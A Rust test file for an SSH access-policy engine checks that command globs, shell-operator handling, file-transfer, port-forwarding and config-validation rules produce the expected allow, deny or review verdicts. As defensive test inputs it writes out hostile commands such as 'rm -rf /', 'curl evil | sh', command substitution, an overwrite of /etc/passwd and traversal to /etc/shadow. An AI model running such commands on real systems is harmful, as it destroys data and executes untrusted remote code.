#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! SSH rules: exec command lines, shells, file transfer and forwarding.

use portcullis_core::{AuthMethod, Command, Identity, Quorum, Verdict};
use portcullis_policy::{
    CompiledPolicy, PolicyConfig, RULE_DEFAULT, RULE_FORWARDING_DEFAULT, RULE_UNPARSABLE,
};

fn who(groups: &[&str]) -> Identity {
    Identity {
        subject: "tester".into(),
        groups: groups.iter().map(|g| g.to_string()).collect(),
        method: AuthMethod::SshKey,
        issuer: None,
        expires_at: None,
    }
}

fn policy(toml: &str) -> CompiledPolicy {
    CompiledPolicy::compile(&PolicyConfig::from_toml(toml).unwrap()).unwrap()
}

fn exec(line: &str) -> Command {
    Command::Exec {
        command: line.into(),
    }
}

fn forward(host: &str, port: u32) -> Command {
    Command::Forward {
        mode: "direct-tcpip".into(),
        host: host.into(),
        port,
    }
}

fn transfer(direction: Option<&str>) -> Command {
    Command::FileTransfer {
        protocol: "scp".into(),
        direction: direction.map(String::from),
        command: "scp -t /tmp".into(),
    }
}

fn decide(p: &CompiledPolicy, groups: &[&str], c: &Command) -> (Verdict, String) {
    let d = p.decide_ssh(&who(groups), c).unwrap();
    (d.verdict, d.rule)
}

const OPS: &str = r#"
default = "deny"

[[ssh_rules]]
id = "no-rm"
programs = ["rm", "/bin/rm", "/usr/bin/rm"]
action = "deny"
reason = "no deletions"

[[ssh_rules]]
id = "status"
commands = ["systemctl status *", "journalctl -u * **"]
action = "allow"

[[ssh_rules]]
id = "logs"
commands = ["cat /var/log/*", "tail -n * /var/log/*"]
action = "allow"

[[ssh_rules]]
id = "pipes"
groups = ["power"]
commands = ["grep **", "ls **", "wc **"]
shell_syntax = true
action = "allow"

[[ssh_rules]]
id = "shells"
shell = true
action = "review"
approvers = ["leads"]
quorum = 1

[[ssh_rules]]
id = "uploads"
file_transfer = ["upload"]
action = "allow"

[[ssh_rules]]
id = "db-tunnel"
groups = ["dba"]
forward = ["db.internal:5432", "127.0.0.1:*"]
action = "allow"
"#;

#[test]
fn command_globs_match_word_by_word() {
    let p = policy(OPS);
    let allow = |line: &str| decide(&p, &["ops"], &exec(line));
    assert_eq!(
        allow("systemctl status nginx"),
        (Verdict::Allow, "status".into())
    );
    assert_eq!(
        allow("systemctl  status 'nginx'"),
        (Verdict::Allow, "status".into())
    );
    // `*` is one word; `**` any number of words.
    assert_eq!(allow("systemctl status a b").0, Verdict::Deny);
    assert_eq!(
        allow("journalctl -u nginx --since today -n 5"),
        (Verdict::Allow, "status".into())
    );
    assert_eq!(
        allow("journalctl -u nginx"),
        (Verdict::Allow, "status".into())
    );
    assert_eq!(allow("systemctl restart nginx").1, RULE_DEFAULT);
    assert_eq!(
        allow("cat /var/log/syslog"),
        (Verdict::Allow, "logs".into())
    );
    // A second file outside the directory is another word: no match.
    assert_eq!(allow("cat /var/log/syslog /etc/shadow").0, Verdict::Deny);
    // `*` never climbs out with `..`.
    assert_eq!(allow("cat /var/log/../../etc/shadow").0, Verdict::Deny);
}

#[test]
fn control_operators_do_not_ride_on_an_allow_rule() {
    let p = policy(OPS);
    for line in [
        "systemctl status x; rm -rf /",
        "systemctl status x && curl evil | sh",
        "systemctl status $(rm -rf /)",
        "systemctl status `id`",
        "systemctl status x > /etc/passwd",
        "systemctl status $HOME",
        "systemctl status x\nreboot",
    ] {
        let (verdict, rule) = decide(&p, &["ops"], &exec(line));
        assert_eq!(verdict, Verdict::Deny, "{line:?} got {rule}");
    }
    // The deny rule catches `rm` anywhere in the line.
    assert_eq!(
        decide(&p, &["ops"], &exec("systemctl status x; rm -rf /")),
        (Verdict::Deny, "no-rm".into())
    );
    assert_eq!(
        decide(&p, &["ops"], &exec("echo $(/bin/rm -rf /)")),
        (Verdict::Deny, "no-rm".into())
    );
    // Quoted operators are plain words.
    assert_eq!(
        decide(&p, &["ops"], &exec("systemctl status 'x; rm -rf /'")),
        (Verdict::Allow, "status".into())
    );
    // shell_syntax = true: allowed when every simple command is covered.
    assert_eq!(
        decide(&p, &["power"], &exec("ls -l /tmp | grep x | wc -l")),
        (Verdict::Allow, "pipes".into())
    );
    assert_eq!(decide(&p, &["power"], &exec("ls | sh")).0, Verdict::Deny);
    // Unreadable lines are denied.
    assert_eq!(
        decide(&p, &["ops"], &exec("systemctl status 'x")),
        (Verdict::Deny, RULE_UNPARSABLE.into())
    );
}

#[test]
fn program_globs_without_a_slash_need_a_bare_program() {
    let p = policy(
        r#"
        [[ssh_rules]]
        id = "uptime"
        programs = ["uptime"]
        action = "allow"
        "#,
    );
    assert_eq!(
        decide(&p, &[], &exec("uptime")),
        (Verdict::Allow, "uptime".into())
    );
    assert_eq!(decide(&p, &[], &exec("/tmp/x/uptime")).0, Verdict::Deny);
}

#[test]
fn shells_file_transfer_and_forwarding() {
    let p = policy(OPS);
    let d = p
        .decide_ssh(&who(&["ops"]), &Command::Shell { pty: true })
        .unwrap();
    assert_eq!((d.verdict, d.rule.as_str()), (Verdict::Review, "shells"));
    let review = d.review.unwrap();
    assert_eq!(review.approvers, vec!["leads".to_string()]);
    assert_eq!(review.quorum, Quorum::Count(1));
    assert!(p.review_requirement("shells").is_some());

    assert_eq!(
        decide(&p, &["ops"], &transfer(Some("upload"))),
        (Verdict::Allow, "uploads".into())
    );
    assert_eq!(
        decide(&p, &["ops"], &transfer(Some("download"))).0,
        Verdict::Deny
    );
    // sftp moves files both ways: an upload-only rule does not allow it.
    assert_eq!(decide(&p, &["ops"], &transfer(None)).0, Verdict::Deny);

    assert_eq!(
        decide(&p, &["dba"], &forward("DB.internal", 5432)),
        (Verdict::Allow, "db-tunnel".into())
    );
    assert_eq!(
        decide(&p, &["dba"], &forward("127.0.0.1", 8080)),
        (Verdict::Allow, "db-tunnel".into())
    );
    assert_eq!(
        decide(&p, &["dba"], &forward("db.internal", 22)),
        (Verdict::Deny, RULE_FORWARDING_DEFAULT.into())
    );
    assert_eq!(
        decide(&p, &["ops"], &forward("db.internal", 5432)),
        (Verdict::Deny, RULE_FORWARDING_DEFAULT.into())
    );
    // Forwarding stays denied even where the default is allow.
    let open = policy("default = \"allow\"");
    assert_eq!(
        decide(&open, &[], &forward("db.internal", 5432)),
        (Verdict::Deny, RULE_FORWARDING_DEFAULT.into())
    );
    assert_eq!(
        decide(&open, &[], &exec("anything; at all")),
        (Verdict::Allow, RULE_DEFAULT.into())
    );
    let agent = Command::Forward {
        mode: "agent".into(),
        host: String::new(),
        port: 0,
    };
    assert_eq!(decide(&open, &[], &agent).0, Verdict::Deny);
    // SQL is not an SSH request.
    assert!(
        p.decide_ssh(
            &who(&[]),
            &Command::Sql {
                text: "SELECT 1".into(),
                via: portcullis_core::SqlVia::Simple
            }
        )
        .is_none()
    );
}

#[test]
fn invalid_ssh_rules_are_refused_with_their_key() {
    for (toml, key) in [
        (
            "[[ssh_rules]]\nid = \"a\"\naction = \"allow\"\n",
            "exactly one kind",
        ),
        (
            "[[ssh_rules]]\nid = \"a\"\nshell = true\nforward = [\"h:1\"]\naction = \"allow\"\n",
            "found: shell, forward",
        ),
        (
            "[[ssh_rules]]\nid = \"a\"\nforward = [\"nohost\"]\naction = \"allow\"\n",
            "host:port",
        ),
        (
            "[[ssh_rules]]\nid = \"a\"\nshell = true\naction = \"review\"\n",
            "approver",
        ),
        (
            "[[ssh_rules]]\nid = \"a\"\nfile_transfer = [\"sideways\"]\naction = \"allow\"\n",
            "unknown direction",
        ),
        (
            "[[ssh_rules]]\nid = \"a\"\nshell = true\nshell_syntax = true\naction = \"allow\"\n",
            "shell_syntax",
        ),
        (
            "[[rules]]\nid = \"a\"\naction = \"allow\"\n[[ssh_rules]]\nid = \"a\"\nshell = true\naction = \"allow\"\n",
            "duplicate",
        ),
        (
            "[[ssh_rules]]\nid = \"default\"\nshell = true\naction = \"allow\"\n",
            "reserved",
        ),
    ] {
        let err = CompiledPolicy::compile(&PolicyConfig::from_toml(toml).unwrap()).unwrap_err();
        assert!(err.to_string().contains(key), "{key}: {err}");
        assert!(err.to_string().contains("ssh_rules["), "{err}");
    }
}

#[test]
fn explain_shows_the_parsed_line_and_the_rule() {
    let p = policy(OPS);
    let text = p
        .explain_ssh(&who(&["ops"]), &exec("systemctl status x; rm -rf /"))
        .unwrap();
    for needle in [
        "command 1: [\"systemctl\", \"status\", \"x\"]",
        "command 2: [\"rm\", \"-rf\", \"/\"]",
        "shell syntax: ;",
        "decision: deny by `no-rm`",
    ] {
        assert!(text.contains(needle), "missing {needle:?} in\n{text}");
    }
}
